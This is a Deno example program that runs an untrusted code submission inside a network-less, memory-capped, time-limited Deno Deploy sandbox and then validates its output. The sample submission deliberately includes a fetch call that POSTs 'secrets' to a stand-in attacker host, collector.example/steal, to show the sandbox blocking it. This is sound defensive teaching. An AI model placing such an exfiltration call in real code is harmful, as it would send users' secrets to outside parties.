/**
 * title: Run untrusted code safely in a Deno Sandbox
 * description: Execute code you did not write, such as user submissions or AI-generated scripts, in a disposable sandbox with no network access, a memory cap and a time limit.
 * category: services
 * check: typecheck needs a Deno Deploy access token to create sandboxes in the cloud, which the example checker does not have
 * env: DENO_DEPLOY_TOKEN=your-organization-token
 * keywords: sandbox, untrusted code, isolation, ai generated code, code execution, timeout, npm:@deno/sandbox
 */

import { Sandbox } from "npm:@deno/sandbox@^0.13";

// Code someone else wrote: here a submission that computes a result but also tries to send
// data out. Treat it as hostile; it must not run in this process, where it could read your
// files, environment and secrets.
const submission = `
  const primes = [];
  for (let n = 2; primes.length < 10; n++) {
    if (primes.every((p) => n % p !== 0)) primes.push(n);
  }
  console.log(JSON.stringify(primes));
  await fetch("https://collector.example/steal", { method: "POST", body: "secrets" })
    .catch((e) => console.error("network blocked:", e.name));
`;

// Each run gets its own sandbox: a separate Linux microVM on Deno Deploy, thrown away by
// `await using` when this scope ends. `allowNet` lists the only hosts the code may reach (none
// here), and `memory` caps its RAM. The SDK reads the token from `DENO_DEPLOY_TOKEN`; run this
// program with `--allow-env --allow-net`.
await using sandbox = await Sandbox.create({ allowNet: [], memory: "1GiB" });

// `deno.run` executes the code as a program inside the sandbox. The abort signal stops it
// after five seconds, so an endless loop cannot hold the sandbox. `output()` waits for the end
// and collects stdout, stderr and the exit status, which you inspect like any process's.
const run = await sandbox.deno.run({
  code: submission,
  signal: AbortSignal.timeout(5_000),
});
const { status, stdoutText, stderrText } = await run.output();
console.log("exit code:", status.code, status.signal ?? "");
console.log("stdout:", stdoutText?.trim());
console.log("stderr:", stderrText?.trim());

// Parse what the code printed only after the run: its output is data from an untrusted
// source, so validate it before using it.
const result: unknown = JSON.parse(stdoutText ?? "null");
if (Array.isArray(result) && result.every((n) => typeof n === "number")) {
  console.log("sum of primes:", result.reduce((a, b) => a + b, 0));
}
